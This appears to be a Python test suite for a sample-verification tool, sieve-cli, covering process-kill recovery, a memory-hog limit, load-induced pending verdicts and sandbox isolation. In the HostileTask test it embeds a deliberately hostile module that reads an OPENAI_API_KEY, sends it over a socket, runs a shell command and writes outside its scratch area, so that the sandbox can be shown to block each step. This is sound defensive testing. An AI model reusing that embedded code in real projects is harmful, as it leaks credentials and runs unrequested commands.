"""Issue 34 point 6: an operator's campaigns against a real `sieve-cli verify --cpu`, one behaviour per test class
(each a ctest of its own, label worker: `python test_campaigns.py CLASS`). Killing sieve-cli and the worker is
Kill9.* (tests/unit/gpu/test_kill9.cpp); a killed `sample --mode first-pass` releasing the verify lock is
ServeVerifier.KilledSamplerTakesItsVerifierAndAnImmediateResumeFinishes (tests/net). The longer, repeated
campaigns are kill.sh.

Usage: test_campaigns.py [unittest args]; SIEVE_CLI names sieve-cli (the ctest passes it)."""
import json
import os
import socket
import sys
import threading
import time
import unittest

import campaign as C

CLI = os.environ.get("SIEVE_CLI") or os.path.join(C.ROOT, "build", "dev", "app", "sieve-cli")


class KillCampaign(unittest.TestCase):
    """A clean run and a run whose `role` process is killed once while it works, on two copies of the same
    corpus; after a plain re-run every sample has the verdict the clean run gave it."""
    role = None
    settle = 0.5
    kills = 1

    def setUp(self):
        self.cli = C.Cli(CLI)
        self.rows = C.kill_corpus_rows(1)

    def test_every_sample_ends_with_the_clean_verdict(self):
        if self.role is None:
            self.skipTest("the base class")
        self.campaign()

    def campaign(self):
        """Runs it; returns (the clean run's seconds, the killed run's and its re-run's)."""
        clean = self.cli.corpus("clean.sieve", self.rows)
        t0 = time.monotonic()
        rc, summary, _, err = self.cli.verify(clean)
        clean_s = time.monotonic() - t0
        self.assertEqual(rc, 0, err)
        want = C.verdicts(clean)
        self.assertNotIn("PENDING", [s for s, _ in want.values()], want)
        db = self.cli.corpus("killed.sieve", self.rows)
        t0 = time.monotonic()
        res = C.kill_campaign(self.cli, db, self.role, self.kills, settle=self.settle)
        killed_s = time.monotonic() - t0
        self.assertGreaterEqual(res["kills"], 1, f"no {self.role} was there to kill: {res}")
        got = C.verdicts(db)
        print(f"{self.role}: {res['kills']} kills; clean run {clean_s:.1f} s, killed run and re-run {killed_s:.1f} s; "
              f"first run exit {res['first_rc']}, re-run exit {res['rerun_rc']} "
              f"({(res['rerun_summary'] or {}).get('state')})", file=sys.stderr)
        diff = C.differences(want, got)
        self.assertEqual(diff, {}, f"verdicts after the kills differ from a clean run's (clean, killed)\n{res}\n"
                         + self.cli.read("verify.err")[-3000:])
        self.assertEqual(res["rerun_rc"], 0, res["rerun_err"])
        return clean_s, killed_s


class KillZygote(KillCampaign):
    role = "zygote"  # with candidates running: they die with it


class KillTaskServer(KillCampaign):
    role = "task_server"  # while it computes the slow task's references
    settle = 0.3


class KillCandidate(KillCampaign):
    role = "candidate"


class ZygoteKilledAtStart(KillCampaign):
    """Issue 34: a zygote killed before it was ready made the run report "an engine/worker bug" and make no
    progress for about 300 s. Killed three times as it starts (the worker's own restarts are used up, its hello
    fails), the engine restarts the worker at once; the run is no slower than a clean one by more than a minute."""
    role = "zygote"
    settle = 0.0
    kills = 3

    def test_every_sample_ends_with_the_clean_verdict(self):
        clean_s, killed_s = self.campaign()
        self.assertLess(killed_s, 2 * clean_s + 60, "the start-up stall is back")


class MemoryHog(unittest.TestCase):
    """A sample whose forward fills 16 GiB with its own kernel (answers/memory_hog_4g.py, larger) on `verify
    --cpu`: FAIL_RUNTIME MEMORY_LIMIT naming its cgroup's limit, long before the stage timeout, and the host keeps
    its memory (MemAvailable sampled every 0.2 s)."""

    def test_the_hog_is_stopped_by_its_memory_limit(self):
        cli = C.Cli(CLI)
        rows = [{"task_id": "softmax", "reference_code": C.fixture("tasks/softmax.py"), "dtype": "fp32",
                 "shapes": [{"BATCH": 3, "DIM": 100}]},
                {"sample_id": "hog", "task_id": "softmax", "code": C.memory_hog(16)},
                {"sample_id": "honest", "task_id": "softmax", "code": C.fixture("answers/softmax.py")}]
        db = cli.corpus("hog.sieve", rows)
        watch = C.MemWatch()
        t0 = time.monotonic()
        rc, summary, out, err = cli.verify(db, extra=("--skip-static", "--timeout", "300"))
        took = time.monotonic() - t0
        low = watch.stop()
        got = C.verdicts(db)
        print(f"memory hog: {got['hog']} in {took:.1f} s (run), lowest MemAvailable {low / 2**30:.1f} GiB",
              file=sys.stderr)
        self.assertIn(rc, (0,), err)
        self.assertEqual(got["hog"], ("FAIL_RUNTIME", ("MEMORY_LIMIT",)), out)
        self.assertEqual(got["honest"][0], "PASS", out)
        msg = [line for line in out.splitlines() if '"hog"' in line][0]
        self.assertIn("memory.max", msg)
        self.assertIn("MiB", msg)
        con = C.sqlite3.connect(f"file:{db}?mode=ro", uri=True)
        ms = con.execute("SELECT v.duration_ms FROM verdicts v JOIN samples s ON s.id = v.sample_id "
                         "WHERE s.name = 'hog'").fetchone()[0]
        con.close()
        print(f"memory hog: its verdict after {ms / 1000:.1f} s (stage limit 300 s)", file=sys.stderr)
        self.assertLess(ms, 120000, "stopped late (the default stage timeout is 120 s), not at its memory limit")
        self.assertGreater(low, 2 << 30, "the host ran short of memory")


class LoadLeavesPending(unittest.TestCase):
    """Issue 31 point 3 and issue 34 point 2 through sieve-cli: a sample whose stage runs out of time on every
    attempt while harness-side busy loops hold the CPUs gets no verdict; it stays PENDING, the run says so
    (exit 3, summary pending LOAD_TIMEOUT, state interrupted) and a plain re-run on the quiet machine gives the
    verdict a clean run gives (PASS)."""

    def test_a_loaded_sample_stays_pending_and_the_rerun_verifies_it(self):
        cli = C.Cli(CLI)
        rows = [{"task_id": "softmax", "reference_code": C.fixture("tasks/softmax.py"), "dtype": "fp32",
                 "shapes": [{"BATCH": 3, "DIM": 100}]},
                {"sample_id": "busy", "task_id": "softmax", "code": C.slow_softmax(C.SLOW_REPEAT)}]
        clean = cli.corpus("clean.sieve", rows)
        rc, summary, out, err = cli.verify(clean)
        self.assertEqual((rc, C.verdicts(clean)["busy"][0]), (0, "PASS"), err)
        ph = [json.loads(x) for x in out.splitlines() if '"busy"' in x][0]["phases"]
        longest = max(ph["start"] + ph.get("context", 0) + ph["compile"], ph["first_call"] + ph["checks"] + ph["probe"])
        limit = max(4, round(3 * longest))
        db = cli.corpus("loaded.sieve", rows)
        v = C.Verify(cli, db, extra=("--timeout", str(limit)))
        hogs = None
        try:
            # the hogs start with the candidate (under them the worker's own start would take minutes)
            t0 = time.monotonic()
            while not v.find("candidate") and v.alive() and time.monotonic() - t0 < 240:
                time.sleep(0.05)
            hogs = C.Hogs(nice=0)  # (at a higher priority the worker itself misses its watchdog)
            rc, summary = v.wait(600)
        finally:
            if hogs:
                hogs.stop()
        out = "".join(v.lines)
        err = cli.read("verify.err")
        print(f"loaded run (stage limit {limit} s): exit {rc}, {summary}", file=sys.stderr)
        self.assertEqual(rc, 3, err)
        self.assertEqual(summary["state"], "interrupted", summary)
        self.assertEqual(summary["pending"], {"count": 1, "reasons": {"LOAD_TIMEOUT": 1}}, summary)
        self.assertEqual(C.verdicts(db)["busy"], ("PENDING", ()))
        line = [json.loads(x) for x in out.splitlines() if '"busy"' in x][0]
        self.assertEqual((line["status"], line["pending"]), (None, "LOAD_TIMEOUT"), line)
        rc, summary, out, err = cli.verify(db)  # the resume, on the quiet machine
        self.assertEqual(rc, 0, err)
        self.assertEqual((summary["state"], summary["resumed"]), ("finished", True), summary)
        self.assertEqual(C.differences(C.verdicts(clean), C.verdicts(db)), {})


HOSTILE_TASK = '''import os
import socket

import torch
import torch.nn as nn

BATCH = 3
DIM = 100

# A reference from a mined corpus that looks for the operator's key, phones home, runs a shell and writes
# outside its scratch. Each success would make the reference fail with what it found (LEAKED ...): the test
# reads it back from the corpus.
_found = []
_key = os.environ.get("OPENAI_API_KEY")
if _key:
    _found.append("env " + _key)
try:
    _s = socket.create_connection(("127.0.0.1", PORT), timeout=2)
    _s.sendall(("key=%s" % _key).encode())
    _found.append("tcp connected")
except OSError:
    pass
os.system("echo pwned > MARKER")
try:
    with open(OUTSIDE, "w") as _f:
        _f.write("written")
    _found.append("write outside")
except OSError:
    pass


class Model(nn.Module):
    def __init__(self):
        super().__init__()

    def forward(self, x):
        if _found:
            raise RuntimeError("LEAKED " + "; ".join(_found))
        return torch.softmax(x, dim=-1)


def get_inputs():
    return [torch.randn(BATCH, DIM)]


def get_init_inputs():
    return []
'''


class HostileTask(unittest.TestCase):
    """A task module that reads os.environ, opens a socket, runs os.system and writes outside its scratch:
    `tasks check` names each line; at verify time it cannot read OPENAI_API_KEY set in sieve-cli's environment,
    connect to a listener the test opens on 127.0.0.1 or write outside, and the honest sample of the task is
    not FAIL_SANDBOX."""

    def setUp(self):
        self.cli = C.Cli(CLI)
        self.listener = socket.socket()
        self.listener.bind(("127.0.0.1", 0))
        self.listener.listen(8)
        self.listener.settimeout(0.2)
        self.received, self.stop = [], False
        self.t = threading.Thread(target=self.accept, daemon=True)
        self.t.start()
        outside = self.cli.path("outside")
        os.makedirs(outside)
        os.chmod(outside, 0o777)  # writable by any uid: only the sandbox keeps the task out
        self.outside = outside
        self.code = HOSTILE_TASK.replace("PORT", str(self.listener.getsockname()[1])) \
            .replace("MARKER", os.path.join(outside, "marker")).replace("OUTSIDE", repr(os.path.join(outside, "w")))

    def tearDown(self):
        self.stop = True
        self.t.join(2)
        self.listener.close()

    def accept(self):
        while not self.stop:
            try:
                conn, _ = self.listener.accept()
            except OSError:
                continue
            conn.settimeout(2)
            try:
                self.received.append(conn.recv(4096) or b"(connected)")
            except OSError:
                self.received.append(b"(connected)")
            conn.close()

    def test_the_task_reaches_nothing_and_its_honest_sample_is_not_blamed(self):
        key = "sk-campaign-operator-key-91c2"
        rows = [{"task_id": "hostile", "reference_code": self.code, "dtype": "fp32"},
                {"sample_id": "honest", "task_id": "hostile", "code": C.fixture("answers/softmax.py")}]
        db = self.cli.corpus("hostile.sieve", rows)
        check = self.cli.run("tasks", "check", db, "--cpu", "--json", env={"OPENAI_API_KEY": key})
        lines = {i + 1 for i, text in enumerate(self.code.splitlines())
                 if "os.environ" in text or "socket.create_connection" in text or "os.system" in text
                 or "open(" in text}
        warned = check.stdout + check.stderr
        self.assertIn("TASK_REACHES_OUTSIDE", warned, warned)
        for n in lines:
            self.assertRegex(warned, rf'"line":\s*{n}\b|line {n}\b', f"line {n} not named: {warned[-3000:]}")
        rc, summary, out, err = self.cli.verify(db, env={"OPENAI_API_KEY": key})
        got = C.verdicts(db)
        print(f"hostile task: honest sample {got['honest']}; listener got {self.received}; "
              f"outside: {os.listdir(self.outside)}", file=sys.stderr)
        self.assertEqual(self.received, [], "the task reached a loopback listener")
        self.assertEqual(os.listdir(self.outside), [], "the task wrote outside its scratch")
        self.assertNotIn(key, out + err)
        self.assertNotIn("LEAKED", out + err)
        self.assertNotEqual(got["honest"][0], "FAIL_SANDBOX", out)
        self.assertNotEqual(got["honest"][0], "PENDING", out)
        with open(db, "rb") as f:
            self.assertNotIn(key.encode(), f.read())


if __name__ == "__main__":
    sys.exit(unittest.main())
